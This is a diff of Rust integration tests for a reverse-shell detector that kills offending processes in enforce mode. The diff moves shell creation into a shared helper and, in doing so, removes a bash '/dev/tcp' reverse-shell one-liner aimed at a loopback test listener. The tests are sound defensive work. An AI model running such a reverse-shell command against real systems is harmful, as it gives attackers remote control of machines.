@@ -1,24 +1,17 @@
 //! The whole chain with enforcement: from the shell's exec to its end, and all that keeps it alive.
 
 use std::{
-    process::{Child, Command, Stdio},
+    process::{Child, Command},
     time::Duration,
 };
 
 use nix::sys::signal::Signal;
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{Peer, reverse_shell},
     rig::{ends_by_signal, lives_on},
     sentinel::{Sentinel, is_running, program, send, within},
 };
-
-/// A reverse shell that has been told nothing yet.
-fn shell(bed: &Bed, peer: &Peer) -> Child {
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut command = bed.command("bash");
-    command.args(["-c", &code]).stdin(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
-}
 
 fn end(mut child: Child) {
     let _gone = child.kill();
@@ -32,7 +25,7 @@ fn the_shell_ends_and_its_neighbour_lives() {
     assert!(sentinel.output.contains("enforce mode"), "{}", sentinel.output);
     let neighbour = bed.command("sleep").arg("300").spawn().unwrap();
     let peer = Peer::listen("127.0.0.1");
-    let mut child = shell(&bed, &peer);
+    let mut child = reverse_shell(&bed, &peer);
     assert_eq!(ends_by_signal(&mut child), Some(9));
     assert!(lives_on(neighbour.id()));
     end(neighbour);
@@ -78,7 +71,7 @@ fn lives(
     let mut sentinel = Sentinel::start_as(&bed, command, &arguments);
     prepare(&sentinel);
     let peer = Peer::listen("127.0.0.1");
-    let mut child = shell(&bed, &peer);
+    let mut child = reverse_shell(&bed, &peer);
     let mut shell = peer.shell();
     assert_eq!(shell.pid(), child.id());
     sentinel.wait_for("CRITICAL");
@@ -131,7 +124,7 @@ fn a_stopped_analyzer_kills_nobody_by_a_stale_request() {
     let neighbour = bed.command("sleep").arg("300").spawn().unwrap();
     send(sentinel.pid(), Signal::SIGSTOP);
     let peer = Peer::listen("127.0.0.1");
-    let mut child = shell(&bed, &peer);
+    let mut child = reverse_shell(&bed, &peer);
     let mut shell = peer.shell();
     assert_eq!(shell.pid(), child.id());
     // The shell is gone before the analyzer hears of it.
@@ -151,10 +144,10 @@ fn the_breaker_is_an_alert_of_its_own() {
     let mut sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
     let peer = Peer::listen("127.0.0.1");
     for _ in 0..10 {
-        let mut child = shell(&bed, &peer);
+        let mut child = reverse_shell(&bed, &peer);
         assert_eq!(ends_by_signal(&mut child), Some(9));
     }
-    let mut child = shell(&bed, &peer);
+    let mut child = reverse_shell(&bed, &peer);
     for _ in 0..10 {
         let _killed = peer.accept();
     }
